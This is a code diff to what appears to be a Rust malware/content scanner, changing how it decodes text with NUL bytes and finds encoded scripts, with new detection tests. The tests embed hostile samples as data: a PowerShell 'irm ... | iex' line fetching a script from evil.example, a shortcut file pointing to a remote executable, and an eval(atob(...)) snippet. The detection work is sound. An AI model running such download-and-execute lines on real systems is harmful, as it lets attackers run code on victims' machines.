@@ -128,12 +128,16 @@ impl Format for Text {
         } else {
             html::Opened::default()
         };
+        let acts = opened.acts.then_some(facts::Acts {
+            hidden: &opened.hidden,
+            scripts: &opened.scripts,
+        });
         escapes::unpack(&text, input.bytes, sink);
         let taken = payload::unpack(&text, input.bytes, &opened.urls, sink);
         short::unpack(&text, &taken, &opened.urls, sink);
         // What a page shows its reader is text: the page itself was asked.
         if page && input.layer != "html-text" {
-            facts::conclude(&text, opened.acts.as_deref(), &taken, sink);
+            facts::conclude(&text, acts.as_ref(), &taken, sink);
         }
         Ok(())
     }
@@ -153,15 +157,18 @@ fn is_plain(input: &Input<'_>) -> bool {
 /// looked for in all of the bytes, and the rules have matched them. `None` for a page in such data, which a browser reads to its end.
 fn readable(bytes: &[u8]) -> Option<Cow<'_, str>> {
     const BEGINNING: usize = 256 * 1024;
-    if let Ok(text) = std::str::from_utf8(bytes) {
-        Some(Cow::Borrowed(text))
+    let text = if let Ok(text) = std::str::from_utf8(bytes) {
+        Cow::Borrowed(text)
     } else if charset::is_mostly_text(bytes) {
-        Some(String::from_utf8_lossy(bytes))
+        String::from_utf8_lossy(bytes)
     } else if within::is_page(bytes) {
-        None
+        return None;
     } else {
-        Some(String::from_utf8_lossy(bytes.get(..BEGINNING).unwrap_or(bytes)))
-    }
+        String::from_utf8_lossy(bytes.get(..BEGINNING).unwrap_or(bytes))
+    };
+    // A NUL ends a word, as a blank does.
+    let plain = memchr::memchr(0, text.as_bytes()).is_none();
+    Some(if plain { text } else { Cow::Owned(text.replace('\0', " ")) })
 }
 
 /// Text formats that hold others in a way that is not opened here.
@@ -175,10 +182,7 @@ fn unopened(input: &Input<'_>, sink: &mut Sink<'_, '_>) {
         Some("uue") => sink.gap(Gap::new(GapKind::Unsupported, "uuencoded data is recognised and not opened").bytes(all)),
         _ => {}
     }
-    if let Some(at) = input
-        .first(Signature::EncodedScript)
-        .filter(|at| is_encoded_script(input.from(*at)))
-    {
+    if let Some(at) = input.places(Signature::EncodedScript).find(|at| is_encoded_script(input.from(*at))) {
         sink.finding(
             Found::new("script.encoded")
                 .at(at, 12)
@@ -208,5 +212,41 @@ mod tests {
         assert!(readable(&data).is_some_and(|text| text.len() < 300_000));
         let text = [&b"words and "[..], &b"more ".repeat(100_000), &[1; 40_000], b"\xff last"].concat();
         assert!(readable(&text).is_some_and(|text| text.ends_with("last")));
+    }
+
+    #[test]
+    fn a_nul_makes_no_data_of_a_text() {
+        for (text, id) in [
+            (
+                "[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n\0",
+                "url.file_scheme_or_unc",
+            ),
+            ("irm https://evil.example/a.ps1 | iex\r\n\0\0\0", "ps1.encoded_command"),
+        ] {
+            let found = look(text.as_bytes());
+            assert!(found.has(id), "{text}");
+        }
+        let far = format!(
+            "{}\r\n[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n",
+            "; x".repeat(30_000)
+        );
+        assert!(look(far.as_bytes()).has("url.file_scheme_or_unc"));
+    }
+
+    #[test]
+    fn literals_that_begin_alike_are_each_opened() {
+        let base64 = |text: &str| data_encoding::BASE64.encode(text.as_bytes());
+        let (harmless, marker) = (
+            "// configuration of the viewer, part one",
+            "// configuration of the viewer, part \u{e9}\nx",
+        );
+        let page = format!("<script>f(atob('{}'));eval(atob('{}'))</script>", base64(harmless), base64(marker));
+        assert!(look(page.as_bytes()).node("atob", "base64").is(marker.as_bytes()));
+    }
+
+    #[test]
+    fn a_word_in_a_comment_is_no_encoded_script() {
+        let script = "//#@~^ decoy\n#@~^DgAAAA==\x09w2K+MY,#bC4AAA==^#~@";
+        assert!(look(script.as_bytes()).has("script.encoded"));
     }
 }
